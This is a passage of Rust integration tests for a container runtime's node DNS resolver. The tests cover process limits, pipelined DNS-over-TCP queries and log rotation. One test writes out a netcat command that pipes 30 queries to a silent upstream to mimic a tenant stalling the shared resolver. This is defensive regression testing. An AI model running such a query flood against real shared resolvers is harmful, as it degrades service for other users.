            let limits = fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
            let files = limits
                .lines()
                .find(|l| l.starts_with("Max open files"))
                .unwrap();
            // 65536 where moat has CAP_SYS_RESOURCE; else the starter's hard
            // limit, never its soft one.
            let files: Vec<&str> = files.split_whitespace().collect();
            assert_eq!(files[3], files[4], "{limits}");
            assert_ne!(files[3], "64", "{limits}");
            let environ = fs::read(format!("/proc/{pid}/environ")).unwrap();
            assert!(
                !String::from_utf8_lossy(&environ).contains("MOAT_TEST_STARTER"),
                "the starter's environment is kept"
            );
            assert_eq!(
                fs::read_link(format!("/proc/{pid}/cwd")).unwrap(),
                Path::new("/")
            );
            let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
            assert!(status.contains("Umask:\t0022"), "{status}");
            // Lowering it needs CAP_SYS_RESOURCE (not every test machine
            // gives root that).
            let own = fs::read_to_string("/proc/self/status").unwrap();
            let cap_eff = own
                .lines()
                .find_map(|l| l.strip_prefix("CapEff:"))
                .and_then(|v| u64::from_str_radix(v.trim(), 16).ok())
                .unwrap_or(0);
            if cap_eff & (1 << 24) != 0 {
                assert_eq!(
                    fs::read_to_string(format!("/proc/{pid}/oom_score_adj"))
                        .unwrap()
                        .trim(),
                    "-500"
                );
            }
        }
        // The job ends: its cgroups' processes are killed and the cgroups
        // removed (nothing of the resolver is in them).
        remove_jobs(&jobs);
        assert!(
            resolver.iter().all(|p| process_alive(*p)),
            "the resolver died with the job"
        );

        // Another tenant's create, and its allowed lookup.
        let _gb = start_with(&env, &["--policy", &policy], &b, &b_id);
        let net = Net::with(addrs, init_pid(&env, &b_id), false);
        let up = net.outside;
        let upstream = Upstream::start(
            &net.ns_path(),
            SocketAddr::new(up.into(), 53),
            up,
            HashMap::new(),
        );
        let (code, text) = nslookup(&env, &b_id, "svc.moat.test", up, None);
        assert_eq!(code, "0", "{text}");
        assert!(answered(&text, up), "{text}");
        drop(upstream);
        close_and_delete(&env, net, &b_id);
        env.moat(&["delete", "--force", &a_id]).assert_ok();
    }
    for j in &jobs {
        let _ = fs::remove_dir(j);
    }
    wait_for("the resolver to stop", Duration::from_secs(10), || {
        resolver.iter().all(|p| !process_alive(*p))
    });
    verify_gone(&leak_a);
    verify_gone(&leak_b);
}

/// T18 (R6-2): one tenant's pipelined DNS-over-TCP queries, with an
/// upstream that never answers, do not hold the node's resolver: the
/// tenant's delete returns without waiting for its queries, and another
/// tenant's create (while a third container keeps the resolver running)
/// succeeds. On the unfixed resolver the delete waited for every
/// buffered query (2 s each) and the other create failed after 20 s.
#[test]
fn pipelined_tcp_queries_do_not_hold_the_node_resolver() {
    let env = Env::new();
    let addrs = Addrs::next();
    let up = addrs.outside();
    let policy = policy_file(
        &env,
        "slow.toml",
        &format!("[egress]\nallow = [\"*.slow.moat.test tcp 80\"]\nresolvers = [\"{up}:53\"]\n"),
    );
    let a = env.bundle(&["sleep", "300"]);
    let b = env.bundle(&["sleep", "300"]);
    let c = env.bundle(&["sleep", "300"]);
    let mut payload = Vec::new();
    for i in 0..30u16 {
        payload.extend(tcp_query(&format!("q{i}.slow.moat.test"), i, None));
    }
    fs::write(a.rootfs().join("q.bin"), &payload).unwrap();
    let a_id = env.id("rs-pipeline");
    let b_id = env.id("rs-next");
    let c_id = env.id("rs-bystander");
    let leaks: Vec<LeakCheck> = [&a_id, &b_id, &c_id]
        .iter()
        .map(|i| env.leak_check(i))
        .collect();
    let mut resolver = Vec::new();
    {
        let _gc = start_with(&env, &["--policy", &policy], &c, &c_id);
        let _ga = start_with(&env, &["--policy", &policy], &a, &a_id);
        let (supervisor, worker) = resolver_pids(&env).expect("the resolver runs");
        resolver.extend([supervisor, worker]);
        let net = Net::with(addrs, init_pid(&env, &a_id), false);
        // The upstream: the test's own address; it never answers.
        let _silent = Server::udp(&net.ns_path(), SocketAddr::new(up.into(), 53));
        let out = exec_sh(
            &env,
            &a_id,
            &format!("(nc -w 200 {up} 53 < /q.bin > /dev/null 2>&1 &) ; sleep 2; echo SENT"),
        );
        assert!(out.stdout.contains("SENT"), "{out}");
        let started = std::time::Instant::now();
        net.close();
        env.moat(&["delete", "--force", &a_id]).assert_ok();
        let deleted = started.elapsed();
        let _gb = start_with(&env, &["--policy", &policy], &b, &b_id);
        let created = started.elapsed();
        assert!(
            deleted < Duration::from_secs(15) && created < Duration::from_secs(25),
            "the tenant's queries held the resolver: delete {deleted:?}, next create at {created:?}"
        );
        assert!(process_alive(worker), "the resolver's worker was restarted");
        env.moat(&["delete", "--force", &b_id]).assert_ok();
        env.moat(&["delete", "--force", &c_id]).assert_ok();
    }
    wait_for("the resolver to stop", Duration::from_secs(10), || {
        resolver.iter().all(|p| !process_alive(*p))
    });
    for l in &leaks {
        verify_gone(l);
    }
}

/// T18 (R6-4): the resolver's log on /run is rotated past its bound to
/// `log.1`, one old file kept.
#[test]
fn the_resolver_log_is_bounded() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let b = env.bundle(&["sleep", "300"]);
    let id = env.id("rs-log");
    let leak = env.leak_check(&id);
    let dir = resolver_dir(&env);
    let mut resolver = Vec::new();
    {
        let _g = start_with(&env, &["--policy", &policy], &b, &id);
        let (supervisor, worker) = resolver_pids(&env).expect("the resolver runs");
        resolver.extend([supervisor, worker]);
        let max = moat::resolver_log::LOG_MAX_BYTES as usize;
        for round in 0..2 {
            let mut f = fs::OpenOptions::new()
                .append(true)
                .open(dir.join("log"))
                .unwrap();
            f.write_all(&vec![b'x'; max + 4096 + round]).unwrap();
            wait_for("the log to rotate", Duration::from_secs(20), || {
                fs::metadata(dir.join("log")).is_ok_and(|m| (m.len() as usize) < max)
                    && fs::metadata(dir.join("log.1")).is_ok_and(|m| m.len() as usize > max + round)
            });
        }
        let files: Vec<_> = fs::read_dir(&dir)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("log"))
            .collect();
        assert_eq!(files.len(), 2, "{files:?}");
        env.moat(&["delete", "--force", &id]).assert_ok();
    }
    wait_for("the resolver to stop", Duration::from_secs(10), || {
        resolver.iter().all(|p| !process_alive(*p))
    });
    verify_gone(&leak);
    assert!(!dir.exists(), "the resolver's directory is left");
}
